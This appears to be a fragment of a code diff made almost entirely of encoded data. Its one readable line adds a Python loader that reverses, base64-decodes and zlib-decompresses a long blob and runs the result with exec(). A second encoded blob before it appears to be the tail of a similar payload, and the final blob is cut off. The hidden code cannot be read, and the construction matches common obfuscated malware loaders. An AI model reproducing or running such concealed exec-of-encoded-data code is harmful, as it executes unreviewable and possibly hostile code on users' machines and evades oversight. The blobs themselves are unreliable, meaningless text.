FP/YRApFh6xIpYw7xMoRKncIoOCLdZ0kn4olWW/wRhBDzSRaI3eh3GAb28rF0r8AFeu4UWnDiAce4dvOj7QqPI+nvbe3X1V19HfHtjPkAafAJQzNHGfOv2AVDuEZd/88O2qugIs0iR2yHcpCXCAh3ofuaxAZz/3+AF0PvTpVW8RixQ320RPHRJtuA/D9++Ktxkmg9feSVwcsii2POwFMmveICfsS6dvkEkHhgINUdFWjEUJ5WdMMh1NPpVXdMIzPCKhVHJiRbUOnw1ds84fBfj93/P80Co02C7Rmf4pA3I3pzH1i/BxHnEk6biHCnrfj+Yu/vtUrUET8Ca2OLQzMOSnD4TFlQ/pHQLUxLXhqbgHNCTXre1lOLy0QBQykAxMXj8m+291xqT21GzeAatLj9lBhQXpQnRDxDEwcHybeDuFzwP/Y8F3/L28uuc/bY4NHUGiTuCEcJ8ThCHua9lUwS19N6ZVb+w6CCvNraCTsDsAQlCcOFDXBZ/NiBfxbWPqJYl6RZ+ywta52E7QoTjBiG1cEMf/NyeSUKhf5Pqbz3tEEPHZxHJ5VE8scJNO4aXcazXdhyRJjgIq2Rxmbli3s76Aymr+mg45Xx+X4lK4Bz9ZwqQEr4lF+Zy4D7PzmHK2T+2tahZHhqFTV0zJ8P78kaQfY0y6UwjptlLaGb/wyPTxyDlmSYH+/1rJbd/IAYzDWHtkVlRWcPLYsiJ3R3YXcJCfD5BT3nh3vhmOs9Pizcz5Y8Ci2wlGwyR5Vn+/O7KPm33Dk8lyRzRUlFuwO2aDJ0/5OHlvuFKhFy8j+qRcC9GRpLqQQouTKLeppwsZa0FxKbqtau1+nmhBmiwqNWEiMvtFzv2Iae79BdBgaj1fV/bilDkRSPCKUuCsz4eXJflPhB5ns7YDmo64co9trbRnctH+k3VXr9c1McviAXQ4YXMut3AhC+TE5/0qW06GUEyB7WDDiGWRsdbvxtI6zu/4lm+7uuVAcgpHxJzopJCOONxWpICxhCls3skl5aRp6LD/bs0rMATGI/4/iIK5b6bvLv7/+ALmD8rJrvfMXTldxjYmWX05PyP+ZIcpm4IuaUF/EO1eMRtW5g/H3PdA+tKot8PqiV+wsdfHHS1T13LgbENywCEH91Jznt6wEFGqIPhaxT1Nb/7k+5lZ3AxOLHt1J+tba0z+9+eL3cvsFXnNufjQ7HKn0uVI+F1bBqdUwmo73/J1jWl5QL8Xt1UEa9EZWryrcDX/zKt+/wUMN69z3wzF1WBfibW60hGldNEdI9mlCIlrGDg5lh/7LG7a6mXL2u5mmS587hyOs38jPvimFK3CPv1acD6uAIdDkd/tbUAHGsuqFozW19hWxqrQJKhyDKLfPOTlLXSuJ6VQuKQZPUpPfW7k+RJFk8eFHowRHTN7ozACFmC8cstbli9hukflibPRFEMCz9382HXA8gZ/IJq6s7CWAeLVuKmD1vD6MOTrmGZViXQIQQI2qXFYM3ebXpLrK5pRxURc+izYrtYGGXIO/7joYhgbbvWfI90vSy4n2opQpE/LfP+i/lQ7q16ZomnX+MAviP5in6wk0TEuVCPnE8geoxSe08wCIk9gnnJoMmrQTQHhutJv33ID8pdme8RRiyB6iNvuDdQuSAOTrfBhvgTQL+OZb26Cso3xm8x4LAoyum876E2fKaHgSWSrVLYvMs+2NngDeSvjbggE81gB9CyUf1Pr2hJFQcE87ZP4JzNf79aqVrrnvOFtNX/eLqDZ1OjKP7hwHz7HT6Na/SoPZoc237x1kRaSnP3D4qZ8WHG0sp0RZvDLG34Ll4fAFyGZXyC+WYDhyhLPgTlTsNx7bRzTXwVWiQjfLynEJ1j4SYZNyLp7D9fl08YwyrjmOzksZ3sZV1gEaePHYFs95fqXUWuMfLa9ipBkNkEFoEY76ZXSl5LP746mtughPdhscqO76VeirGJpnubEmgUIbMQZ4S/GXIswjpfYotJMSVVxycR6JHx0HBbVOjydg7bnQlC6bgxgKqQ958P1T4OcQgNO7vUh3cgPi3U8of4oyFpvs0a26CvDcfmX0WaTij0UQ9Q6ybK43YxhkFExEc8RWTObCXBGYl/187jg+xztodrh3N+NK9mOJsxP48G7iR8ZLMfhrYWEYCQQQBThY3WASiKOzVhhhozG6lXoiAHBDMhWdzG21k7or2nYRTFVYmiqYCoVnP94SY2alsrLOnIsRUCzH1KbaRW4URTcjCOCXCmnW4QutyO/ZT7aO5C5wkCJJfYXlRo3cx+qyFtrsyjh9H+GhLvda4W7lHLtNKrGZa9UDCXgcbesGIYAHzaLaID8atPIdMcsQvx92oaR+6cFs8ppcB67621SBtccHhm3+4IelHCCxYa5WX9ya+0BsswonUsoYisuRVS/Qlcrc79uQXL8Zde9zBIuI91OWK3bHZQaS7mHMfii5RoxzSUuKFcx1t824JaGCZAwrtfkXJOMhLyrl/U80iwJCOlWanzg0oAy5gb0SAfnQMXLeK0fviYPcu15HflMXu0o05wpXO7aIor+HTtPzoQ/mc/LpN0BbHpKvngX6HHC9DQ6sbkMl9aKtow804V2eXWTJ5aWhVIa0wvMd06NHNNRrHlazOIXOOcwCXLKEemcY/Nm+dbKFrE4WqVJ1zWOMvN1VAxCBSCuZDhvsXMx4I6vTZdOkFhIRat9GCRjEtcSvYBY3Y6SkLywcXm2Q2CbVRPeK0UqlMD7q1F4cjNPu3vESguVYGX9skBVQIYvi8ZhOrFof3+Jdu5yeOa+VZRUssIRQmVsrd4kHBBRPOjm6nYbVIOWCxkSKfwfZ/Bvc5QzjFIrQpvoCVA+p3fV3wIoLYkU/s/EsxGiNK/KQmJ6zr8yyA7Px4vURbB1yej2IIT5MJDkLkC3IcJmnL+SRjEvG4c/c9BcxwztbLPLuFoiR1LkyD/q73Fwf7zvq2AG343lR7ebLgImmZcKsMcFrM3MEsCg0yaisP1m4jfwQjqID+dzi1TmzEPB4hlmqjCx2JARvYdX7kXu/RpyMmltcRDeUIHtrkQTDtIpBtZcvZjsoBn00E53ESzfh5buFKuotR2T9zOEpEa5tQlp+h6YGRZ36jTznE4IiLV/t017wEtQN4Ixatu6zAHM+LcD0DyFniehnQFgSKOGmpDZXhUcFlkD5J3AD0U8NpibvKGlEvkrrDTm5QrWPmFPFsSwgIOfP85+MOeGBmZF2Rv3T1DTCfkt9Z5uJGFxa3zMngDLD03szkkvQpveBrt4C3Hl7zka27BJvQg20Q/FQh1B/56MNm4Pqrnh5j9VKiVcsw26RGtCWbzijWr9bW8/fkl/4F1jgDNafNiGOEXiNHCo7iAwX5Yr0urqPkIMCTIc8ozInqzhjAecTH2zUbP3tAR9q6oi6keb4+MdAfmmBkzzXhv/Ybn/JqZ9KNmtqm09W2cOIWbLTOygb4nzWIo/jKZHxPCNaW7vYj18Uny7msRQjHR57dmLLnGOdD8mLkik3Oo2RmipLQB06QvbNSWy7J/zIglfTnRThUS73JcXZF0SJ0pPgUD9AAWOzw6b94Si87s0w4OIrOO58fSDequ09XQvBvlYNhpu+JxKS0WB0t2YK+048rilKm62KOWijIZx5XJyvgrCxGR1bJbBHG4F027HzvnPnui3nj8cpf5QshVAWvkMdcixI5CT3djllfofLywRBG5bH1nJownCIKRjMjxFsuVfGaGeplX3Ql9NDTWlsrK/aTWSzmA9kO/lLXKfjO2lQ6c5HQtzsP0+fBlLz4JWHzD8fEitEcYltfHgr4cc5EeIdtZE38AGN8yO9dt2v+6zgsbO7Lg+ThR0cYIyPUuwfB6yiVec2j7pemos/zgKCu3f6Av0QRxw1Amq8zS4M3QCrEZx9n7PlgwL1mcwJa25Wid0pwed0S3D7/er5jRNH97JgV+R0/9XY78hLj6hXseFmXzBe+QTzB+J+FFgpACLkfJ8xsSEgtcfcVZa78f1eIWg0TEQ5eKqIU7fi1r/BrHRvl1R6X5on2Q63h9zAAXQ8w2C+aAf4IANtOdD74XP3nGgIhLY3kc8T6X0Mb4biPf9A0FtoDODIhGmpYGiMTtLj4GU/vtdF1GvkjS5GFSjhJ/M/jOzH2BJBXxpNx5uksoE1iTRW4YWcCM4gOwu1yo6hWptTosDeUJXxpyt7aAq1/24px2lMhfNwd97PK08ySKtk5X9WE8yXpRbBauAgpFdA7hWVxWKflwI+Q8O+m8P7XmfHtGXaEdj59gpOzWR8dzzher0V6ckj9vXTqATjbRgWl4pzQbzsCV2Wpnax0J9LWZ53oGp05j2eXYggwzesGZ9ipqZLo11AaT4tRIfrvo4XMgIaoJsfpoK8ivwUCQXBwuwFKlamXutoo6YrDb6441GY3NvFjyEunOeQUFXpGOLzQA8Tk1tLg3x2/4ioMEHP/g2RXiaaiANSvTnP9U/FEcx1TaSCCEMlTsCG7s7D0FstpUHtEk28HxhtowvB/SNCsKwdCdcwGNrz8+0yeFn+S68sRNhSup0TY0POwfM9PO8FPd3wUzBUx1WZ5J/I0R+bvg6+SmcXJ1tUuENO5OmYlRmiWB0KDGMzJ369yptjBELsR/Wog086Jc28yygNWV5QUrNnMeUd2Z0Zz8lUfDHfZHPrRbcwzdyFu31N2gKlHE+dwzS06w+QrQtplV0YR37dcN0Fjj4HZLC5AXizc7A+yaVqLeE5pYaaPoW1/692TJ0GS++zS//UaLdj2d3MZSCtN13a41uoPLEpeJ37zM+V2zHKH0MGh5v3EsdpaAA2yZp+tFbvS9/jUF8fkTEJdGWhfOC3ovlKCIriq3y3FHEYGU8AcUaEpuHy88e3jlbIsc8lQsGBSq8Q4znEX8RFU++XwHiGVTp2DCPs+mf/yorog0NBQ3Xyd3c3yA5XUyEQdXRR6JzHe8LyFO+eZBduu91Zszvh2On0o/BL20P9D39RJ8BTva+vvFjDqnH7Dtd82ZYFrzcHWlOsbxEL1lVwS6XfAp6bhSqqJmneh0QmJ6uBfjVFjIZ+j16mN3/OAOusKA7FLf6eYaOX3jKkGJzF0AhDrleq0pthQmTg7RlKtC3tHUFHm/CjHuYUlyq/92hbXaPek+g3qQi1I1w8Q7gzj2wQxTYnFrYcgo7c1p9flWXO+P90PRMhnYQAsRQVdJEO0bwlK452dGS4qY20Lz/9R6E3wtHD5iVdNY7Z0ew2CO8KHMVrqOVcK+x/eWHTM2v7HX+RMnUbXfos2iOsmV/jSh4WvbifO4Q87FnM/Oq6PCwQ4Hk6/pzFA9R7dvImDeD/St2eDHHz+Byz8G7qzw2NFpEZMiH91vHjXBkJR6Tp3K+nQtUSj58E8DxyZT5ytgj8DkoeaeZEM3wjgYlLvtuWT4YXdcNckvBOiPthFxHrRBXRfzubuL6BNnN432OJUOA3tYPR6hJVnY9t4z9RnlnBo4W1scs1he2Tz0CKvkzWGtnTpiO7Xp481yQc2lzD8uMJFRBnAHDN3dDQePdvfyaRgLyQnqO0BNZyWKjroKO/ylYsPYX4mFTrxVVoG6aM7FVjCfsYqBzocwHsbiTjkDzOI41cioV3vBgsCjR4xoivaJZAO5HmBBqNp7B7Xqi/SIoG0UADxhw+jut8iUjDfOmlq8eCG0Pj+F+l1jfF1p0tZFpXpk3Kb6o4zbCKg7eeS2LqFKM5XUZo6g6aIaY7ju7pW6aBB5Y8f0bXrMgt7avY8D0TGVcdoshKaFlKnN7zDloGmck61aepkutDs73nTl5qUlYEfhi8G6sAk+4VZTr3d4Bb+sM6BaCWnr8xqeCKxzqNCfpGpzOknxdgcnxXyPtKt4jskrB9TC0Lvb4IAD69lzricQrTE4T6fze0+wnjYfe8UNQ2/+kPZovHqOEjNJDmkz6f4jdkfqHoile0dk9xAL8OR3kfSDxcOSSvC1bC6cMScayVUrKZtcwWsSCjb3P0O08wgUXliKwZvjiq760FzCA7eHqAmAm7pLbOayvl7XA5WGvzeTkZeqkikPEV5Q0LaETCy/H2X2pOpzXoKN98WfPCNHATcOFpl+XvfGTB1e76PFCqPg/RZx/RjUp9Ir1hppncJdEXr/WsU66M3HcAK8EhD3PZZiXlYEOZpYt8l8ywnU1olzHx5lepOFNOpugUj1hLdnAJMU+15YBp6YbySiIf9STGQnbkvqnhW2oWC/yWqXMnacCi71asQOTLFoqStxm0h/d0nWMdSfMDLHWsfh96oZGbZdQzDydgUpMynGKQc98IDbcWft6K9wvqrfXdpzN3nG35h/NGSaJt/9QDOJlp6AtNIQcloEkZEauAf4WbBhb2GvCBSqoXCMTofhvCg940wYaI2B3yXjdcwUPipj58tKmkW44fGGYJfpdUhK/E/Nc6V4iTzIabRTAPVJ+8smpeVZbmB4INrObTDRntaCEtWbB0oUEmS+oAOr0ypMSDNhuo1i2xC9CobUc5UoQ0i4aV2IwVUVKZ//i2KCdZgdc9mNmVK0f11VRzbN3O1QNdEV+ncPVE7SWLbKnxhc24A8+o9H1BZwNuu7cGwZZ1q49uHCi1/1FHoGvHsGso/BM7+yZ2ERvckQk4LyWSFB2EF5s/jB+FOe/UxwmFtRsGdextwjTaV8CES28vBPVors0US+qnuQB9VvS4m+qZDabz8ahA6O4HAKcVlPvs4ZduzpR9HWF6WE0FK7MJGhMQB4dEgqWDG2wTOlDbwvRxcWXZViLlRPY6b74y134PbVkpL3lCcrT3zUc1ZolbKoZLlzYZ4G+U7RbT9SkNSJRbWlKmJEsnJB08ER/acGb7BE0ZXRg2EfqFV1Jba/syZU3alXfVC6MUWYEpX8g1pB7YNtkKLfEudm514h49eJqUKTtEEyq+U7Pu31tUa+XoLGYAT9I+B0LCTr6krEGpu6HBG9cYFOOC/ojdr++FL7PWeAuxgADFYyVBMQQb4Nuv5RjsPygwRpNZak9Pjeh0bhIggesgSDZLzHl+rrnyUtbyPHiaCCYqrnSCgDJ1hN33pRPlCBtuDDYYrywlbmQyPSsGabeENaxOMOWMsQJjivMvlJUQSr0m3FoIE7MsL0L2dQdMhrv5RSdCX6tTSWVD90rWBE628FfBuyNVF+lG8LCjyg2Rnlno/MImp8IqSWvNDp+dHY/ZesWiUmpvYToBYloutie1ZE3Kh4fSXvvQvmw3uA39KidhkFQA+m7mX/loMZho++L2r6WUG2Cs+NUYowHyx4TKVaYqoHHCU3AncHSfc2+XiUR3cayohKtJnctdZ6l95H/K2fPUsotYFyLysw7/ths6gSAfz8B1W8fz6njs9ATHVB6UhuQXoBH3EaHQ2uYGpU7/faPVAJ9DZXHi9EDMCBgGKqTXxhJz0srV4PXxq5l7sfxSWWs1D72Qku32+vKMcq8A1fXZcv6aZ765OjzNnGK6f4QHmTg85ZWcbFh8Ulv1O/BrL2T8X1BI+Jeux55r0ACzoqw1t/W19fNuveQmD65PF8XLeG7nnngZF9AULPZ1iOMkZ/Bom9Z/VwrhTBBr+HMToG5AQIFK2UAIjbK2mDl0VR0HSxH4qsuNF+kTE+bDSSeRAbS+72OQwlBFumERksiQN/15ZxKYz1cChki3CrC3ZNOfKEWjY7q0yBd1lb9zykjBNJNtPkZPpbhltSxAVdH0d+/cf3ACF/nkSLV/jBSTVbD7GOlhzQ8/D5qC2bfDSBiQreEehbcPs4xzN3eEHyi5MLU0QGfkjBwW7Pp7J3CKjYEVll7vh7pZ5rowV+XO1RafAJCjorCgOXn1QCBl++ov2WMkH76+5H5I16RNGHjJ+BhxnDNpdftPeXTCkhFw/U8CE5+k/5UlnLw61WwUdzpKOkhZhpkI/yhCRtaE9+CeoKG9KeFojyUJ5/0n9cY4YKyFrLzt3koQE+HlEoB5YzrI2m9Jb6bvv7A+zFaRLls2Y8lJvr1y36ks54ZUb4/kh/5pLaTdTCodIKegpBQx56qaUgUh0NCISvTwdoAMCrn7W1jOQfmZXVAZ4/ZdpIugxvqi1M1PQQh8kybmUqkWGVZr/FoOj/IrGkHZD/P+1jsQ5/5RNtM85OhdAwjw4icvFpcG2/g1zSNKfihwJQH5iA/WNKUh5ver06jci/gHKcuOOeLmlgDocCz6OFlRvJys5R15R/LMGmD39I3+SuFFvKuWJCR6px8qBAI+/NbEFgnIqfRIq5hnVg8XJ3ZY14zrwl6Dk19XdkRWLVXyQQM25KBAsDC+THdtfd7GRx/x1jJFGW9VkRZQFypb41UKA0sq5nR1gyg2gkN88KJPHYzUIgsj5/mrhvmN2qZG5vB2NujhMC94iIBOx+ivUg2Lg13m0txOF9y9zzqwn+Y9zNpzTPMfZX2c9+YyeuEqN3DwVbnUV4iKO47tF78vJitahVT+2+dI4NAZ09g4o8/PA8uDfdeQ+S0U/x2aKrXHYS2o8FEdd5Chbc3toXS771OJXsy6tC2rYdYL5d7CzKse9fz1AtNV/zoRvaLIx2KKytgxEDaIeag27yFHk5gV0/wxmIEmF48nDwT5hhwDzQm7xZOgfPH9AmWA9iI+WfZK4wBYTUHYQq3uSuv+Fu4USolLr3XnHfX+18+hbL49AwCUXDki2NoZpE5lpM4PEmTRkMbgxH8LWL71wTe3RIUam2Z+lmbTypqOSbJPzd622l0a/0fj3AiKM/EG/haqjT0faFQgX0xkL2c57Oyz9oT7sKa7Jkc216N60cO6R8uZC4DWbo9WkX/AKzCE5KU1tjDA8HsJcZFzuKuedus+K5B7cCjuF8OQluBf2ZAszF5Qa/iEhlD5RQ1nZ9S2iEGPPLLaporEualrldbUvXdEYdwY8JOkZJNss7w8ZIvN7Y0+Z8zFtNw7JyPq2NwMNwaHNlA9OLqs0qGmRlRfPtBMBXHX9YQfOYV6dt4uTkixrTBD+VG7h199Ew+rxmx2noIN2N0ZFiP1K7YUYMFR+cqcgHzcCbZVmw5zPqG+5pmUFy97fMRc+G4V5LyG92CQHCsLtXVczFY/oUBFW5SHz1BpqosBu+hiBPl4Iu0nf8PrnMuzd9LOeV3v2YAg0040+xLyrysLcEriNdRPo44yZI9+ebqkCdhje3jFTKqRf+LgVyN6wXopY85Y0R9C12sOYyC1hqo97OUTgbnhtPS3SxwqWs5FvaTCQ5O6kX7L6/fdG3wqUt889uiIZzIEmQso7DFGeMcCHnSkIrTAAhLk9dWNFda+fFF2NieziiWdYf000jMqRlijCPeFbsQI/TTF01/WnyB6K0EY6i9TmXE6y+cwiUlkNMRQXVwhy+hv2VNTPzkAuF7v/rM1GASA/DQfTc8DOsGQdh/YPIZeIkoeNG56LvjOwctO3uU67qjJ0JLwaQOQwU8DGtNPMJL/2YM7r5t8+JLZ6WHSi9szeKxbetU5YIt8+rQfJ5H/lnbUHM/p3wMzcAvU6wgyXI0tDxIotNSSCKZhCRA+g7EcWxk2/k0eM4/qOQ2sS3o4frGHXs5QOEkj/ybiJIHDLOcjhZoR2seviHd6EGI/zK/sVq/5mSKU9bGpYp8DO9FmwegC8IKaMnJItsYsOQ0iwRHa9L2wqY7NRFwd5fgBIs78MXJfRHbOeD0HANFRjDNkdlM/0KbUNLq/tXPLCdmYiYaFT3P+mOaErMVUnSaVPF8wOUrnFMfIDXKLlAOODwKDYJA8Pq2jmErj36s0fGm/bMmAx3QjXLQ5wfUopX7Fq3WqYYlcNhf6BYjy8In9hvzlrUYiWj1WqU94RTNf/RRg1cj8y2Hvp+vt3R7TyT277KDZR9diGax7cF/yEG2CD21U9VO7IpAfgfjQvxcQsn2vYrCQQtNspfEgQkCzgKEJ08fFsDlJGRoTrde5HVO4rf8D3dtoq601bfqMUbE6n63xK5nZMLwlA99xsnfqDyEwLYmZexc7qO+VSthfZxalkc7kWn9sAb37YJfjBwt/snrDA1Ep8Ao/uHgPHXsPBs5kkjFtnHCPk1EW+Qqont58IY9DsS6MvK8yuor0IHNzA0VvsvrPYUwxBLHboWOx6c4gaHoIvJA1/Qsf2WcBOTtS8E1UC29Nq94LRo3gdfldi0Gwli6aNjz050e7+rlUda6J+7fwyjJj1EbckTjdH66ZA5yME4vNBFAyF0REHLiSbeafh0hKsxvd3lZbM7IS4yOuH//6upZuDWgtm76BLYB/zyMUJAwvmMm4U/UhJ4S7EkNybWi8JFZx0bSQ8xr1mcb7ycAtCVCnvKzX3s25lws9R9tPAbGko7N7YxU3VJ1hjK4xUT8rIo6vD4RCRjJcHyJKMxuNZS9VFhfW1gGjV+4Ja8iez3haN4d1CmUCmy3mQsvLw0gn0SVcrocsq3YNcsyEqASQy3LOt8tZgG2jlUeIsDkpUfYIzsB1LqHMvTTT7R8ao7R1+VxTtmiTtyQ6XabtAgDFtipb3/wFqwemUOm94xad98Nn2xSYGjEQACV2/uDGHGuLaP7FCmyDLktp0zsYtKXjcFy/WfhURNP++ljBMqojRySxCQug50xtH0C+5of7TEJ5kBi7AawMMjBemB1SAafpIxo9QGRoOweAOJpardhnIezIWH9xijvLVJoOFyQ6CHNh1B8zkwV8RChAtx6Nu6k1XpJu5dgPRhe2w8+UYLZjvTWdTbIAfv3ZvgVGKEd6F3MwUrescRGqI28orYxoowZ8rYJeKkMbzOM96/L9hsBnmWnLVQR3Dt61q6E0cfn/eqllXfrqsFFjCJGGeuWsbR+qQMkxwOXqmVoaMf3Z8dwZHsW4/8rqXj9wY5XAQTxcrz3rK+Oye1QKNsafgM63/0n02pLeePfzvaeC9yM4Wh+LrYhMkuDWeVV4Vd26sLrtw30vh8fk/9P+Opz1rtGEhlW3wSfNhxZTJLGF3OhQHiP6FxhY+03/aUIykcsg/903nnkck7avJQeKqmqdQarPlzfWngaGwN5sPbGElFhd9KWyCXQVZGVGW96ki2rw+PVCTr/i2RHx9ZH6+EKktLLVMxaQCn1y7qPBkOtXgitu24mZLshf/vTfmoP8mjIXOSmLChnwsX5w7Okh9DEvpRyaQ3tLUZy6hYq9XTuFdlZhSPe6hOstWxQoYbv4aQkF8Gao3ufooGuOHtfj+syAvLTqhRHa+lW5CWL6sAv6P861RXGDkIO/AWJDCWmBnUWd4a/MB7HrglwIy6WuhwuWdra9lZFQLAfH9rzyRiBgFImuWl0gxltfyIeVq26XRRI5t3CHQwBD5obxbjtpPyoQ6qZCxP2HGjuE+zZkQg5iv8gC1Q8hTrfIkNwZ5RObM+YI91ep3ZKyXZ5uVwz3l/hWLnQFPwrIh4lCv026PeXmEXt9vf4jWnsmLsbCQrLpLHK85ETcg3yOA3bk4SlJcqWDtiiM9cTrkOFExUQd9ZbgeqWNtbe2Ej5W5DNupVkdV5yBt6BDLsM4uxWYoxVQnRY6ArhAbEi4nKVJ89PD5RVKk8N38vv1mU6bjBjcGPgDFKggGqp5OCxjjUk3A8y1z11zT1o8cl7Bsg088UlLHi0vonMZ/o3zf+/l5i4VIwz74eoAGlYU6aJoDBVduWyzddqzmHQBtCPTXgsBtiFEITpXKAeee7MuKEkIlkbQyDKDbUeHgxnXbJWJsKVnYJoRBppzae5E/Z7Dm3MiuRXcjaQo61oAdxhEVB5eLk1pOS/90fTXHQxvfy8DOa+ruZrnJQPwDK9+l0zJsc/n0z76jZ6koxJ0rwL8bZU7jVJzMI+V250c5na+7Qz84q/ibFmyaIj1JgvFCnZJhaqj7i3GOE3qrDmq59uksdW3vRM9W+LMCz9x6VxB6AWDDvQkkKuImzrtiz6yptQP8AUGKltPJx49MH07c4v9mj0KZmQ1t4y169ayQqH/q1dN+6vM5e3A6zhindRqS5SkWFviqPWd1DuaZjSkNIx8yjWuD6Mgqqa2XVR8aN3iffmwDQlk4lBdrUUXURT2NUDasxf6nbZGYiD2eQWxBJsgg0hbfHYQikCsg9DldibCtcw6Mbvidsnd7CMRcomigAe3Pe/mEAqYYMT/A9plXpkvcmAD9wdIlzztYbgKy3aOjBH4SJJBJAREVIbSnjTKtxuxWweaES9Sw8VhpwUgx9bwV0avgqcxfxWjWuv5ehv0ZlgnCB1iYWcvTLJ4+gRY0Itifrmcq2rLZfSIDmBPL1VS2vtd8al0r6fy0V1GDaeNZ69tdFWXYf7g2SMaiLiCm3wmmK/YCd6TBrx3D/pScYmHxCJ8Hd5501BWpjyPV/7taChIZtSsJoiy/MnpmijeGT12/q4k8aSfSv6APFstlV7EkpAjhXA70LINiVrlvpUCN237CqE772t9PVdQK8zNUaQN7TdaX+WwTKn4YijeNnMyYcfNXBd4vdaXR41mkl0eF7rTHpGRC1dPIv9wM6m1eU6+kfGC1R3cp3cvHTbMUtfOP4T8LoUqi1COQuGY+lGiPw3zGPN0cx7rtnew3sQG5X+oQ6ftL0xHymda0MwW65LnJd3xAi5Cw3wFpKTqHGhvwmQYL/pe011BWL270OMMBZekP3kSF+FFKiSOhrColMTuIU/XH1ZAHzedO/iAvkpWcCmp+XKq7fb55DP3xoZyOzfjpMUSMpWQtdZ8mF0boVJYJLYxicfHZSCyBaJQp/GOPf3oaHUKiIVAb9IJn8gqteZC8wkwqm/2iIAII+Ei2NLcSYW3slcLkT1GRgvkXQoiOOOSKl5IwbT1CTxRUlm6tnKbLqcW87Odwu13sz55KQTNX+r9HHFtreFwkHNB+hjaXMDznHpraagg/q32CzcR49nGrXZkW8TcSbTqBMsGYDvC0ApRDPIFW86bV4HXNOYv0F5ZgeZN1qcvNprIDoB+dpdJii9aZj0fgfBU9E1CbmMachDJG6rjw8BUIHbFsfoRp/+M0kd71GW8Bn2rvCwLg1wE+NGZzycsh1+y4I13E3ARvHMr65t0p1d6k9NO7Aee8jBfOlmoRFu2s/x2O7DHZV87C9DtbZOH5tlhilpl1I2uNvZH1leLwgCbc0Zuiv3KwqzI54Qvdi2ecW7Ai0lmz3swcn06724GyT070phNkgeMbcD6upJiFia0Loiuy2cMzKMYz6VYTWoAzfeIHbmCfibQ/s8J49kp21AkSQslwBgvOZU8x05HKKOIaD+PhFkANCg4tIPH4BP//l+//39//fFTV925DnWXr2uWQmA/9bvWKmOixhkyKzFrgYF8wXn+TRUqU72V7mUwJe'))
+_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'==AjF6vpB8/vf/O+1+C8ttoNhuSCPnGGtye5L7BbchFxaCmHrqkKQKU9cJ8Xmu3B9H+IJb9bV94vemTZDqEoBm25cjVIHRYnCIcVVrLjm6oMWkgFnPwroTHVW/vuxUVfBKPSb0mK7K6/9aazQzlZ0nGzbQ/m42wX4VoDsgntAT+9run293t4TlFqnuj55JvPqUfPh36sGuffTMe7l1IcP8eB7t0E6lm0S/tfzm5zCgERbAkOig0Iyie6RggaEsx9P5U9xUDyft5BkHqFyYm8i65bHQRVI/h8DLdi3FaOTJeAkvn4Qc+MOmUJGBc06pvXXXU4be99wUMKfnJTGCVipYFwpyQT4UbBpoL3aRenn1lhZ4MKqhyXZeBG7AlwWAn+77axNyoBMoTPukIdjfOk7ih1cJrmgxEvCpKdBceIwBT5sHkCIWYjJ0Fq5qvY8coGSaX43RwcLlFAXPjsoChRxcgpcREDQKbZ+0sm0LvWm+ku23C3dE/SLkKZMoB9aIiQfohUxcEeMtyELj4tQNnLNT8nfCUXU65s3foWto9Ryle3dS/yOGqQ1TEyv5LlIv34JK5TaXsW+0KAqeidxW6ml9GORJLNc/5z6KiG9v6GviWGyyM400HdNc6fWd41u3veuW0Z0XPV2UTgRVdfh2SEVL8aOwuyC4K2PbNJY3LLND9PzWjZZCKciVdwNse4B8sUMzy13fEz8A9ckNZzZ2p2c1NrJYHAmJe0MKXmJO8al7dPH7TMIUHvfYERhwlCdh3LyFqEM6ni26vQnyMYt+7ts2F5a7zXdKbybFl1+pi0ux2pLQmVNwgDwq6fs/PBqdD7TK9Aa67ffzWqZG5b4OVe6n5NAtV9pNjJKaxNSnI6MBKjO0ElYLkxXVO9FKSb0zGtWv+3kdWzy2Rk7Gg7grpcQc6KEWAyPiAbWi6Qm8FBCs8eSONcBP2dXSz0xqPkEnV9JIhdsieZYX+UDdh8MbWsS1jWFhGb9ZrCNvbIl2eKntxs+ZthngDYQU7XFA2tO1HycHdp4fxqJmGJEEJvAFgX363PdnMkVAmFq7t3P4C59NiLOFrpMtcrsETWxDimBHgl+AvcYhoLUIjwz+0vTuwslwcRuwyohR8d0EPlped+M4/G6XklqekywoXuB06bFcxbS2PeW7Vtkgmg8VRPYAqF8dkgMJ/1SJd8YAI6d/diq+TEZgKvB2S1GuNZpyW5vEqBSE/nDRq+++VHrLiqT3lFZH8a+o9f/touEHOSSvW/gLS9dITjE1C2HE4O1UJsmSHN1LmLqLTEyyRTgdBmMnG87jxQnmdWm7VP+LIQHx1q2fr3L2VfMrWqUyyr7Uc6bt8p3FXVXzAX2+56iDL3QerJphivwIXlwWJrFKnMWiUwAvq+rAPE5K3Kk33+64T7YObW5UNFUvKBid1grCuVo7g+zMiaU70jOjqE0DhT0ibSIegPH8Oq3eRuxwgOHp702psgdMXIA7IoCDU9Bq3xtmg3oSTZ2ik89+/Kajc7SpKWHg87kPicmgg+EA/cvc7doAovzUebIO52coT32TTuk+65aoDWqYkg9dI3pdp28fe9DfhjuUEXlZ1D/MW/Rc5QbFkpMQcBoK9YYHlD51pkFQqBYRTf6qqge2xhnSQXFjwAXoFwXo7q/oPSHFaiuecl0ggcKhxd/u88PaQAUuWgw1YEXqJSLeAIPt/yzVPFFY4S1ZcRA2L6A8zVpcF4lqWGrJGEPCEN/Ej+7pQhdC7yx7kLG7Md5t1agb0zkwPPXsZZpPN3FkOC5NriiOsnfAhhkzbTVF9OXk70ei2tjwmj/iySE16qd/WhDiaBBItLWN3uvBOZ0S1Akgf9eSWxAmdW0/71kNzPO9DmOiKUsw5+IdGP6tFuoutp2jyqbWx9ojlm9PG4NiFQr9llF+2RpsK+Q2hoIK2elp3pk2LPfnjuypVnm5y0SS792ukjmwE1xA/VEkOUF6WUKmZK15jPW+Ap6wIXs6bx/ezqeVFJDtCwryHhNookWqIG2Zak8JPxmAsv2B+J+dUbqOBV0oaUJREkcLCmy4mfxwT0AQOOUkewBcNFq/lT/DZBLH2lQCuW1y8vHdDDuWDNqMAONFbNLC9m72PqrgIRkXtfmHW5+07QAmUqFe+DqqPDYAWlGw/HMhsbn07lPeMBj0Ia468GRTLzpMQP3mMaE/2JFYBt3TlsFeYs91nklnYw3B94nmef8KShVdh6UMI4ouW/pmlALLM1kwHMHYztGt2XfYbD7072tsGD7bb65mnx3Cp6fWuQK+Hjd05fm3NF8S5P6qg2P0P20w0YDIPTRebTu7pMkkz+9JGbjhLaI9WEpK2DzS8loXiEL6VqJ4ZkduU3A7PlttED1CqY3kCAEWSKmJNy9MoWEWHG83Mhj65EYr7BSUyRt3rZI3/KnsZDIjun17iYt2gpaE2IdhD9mgjcu8roBvfVlKiROHkndVi4a4T19cYhx+ehgR3YCludQLAu/Rckv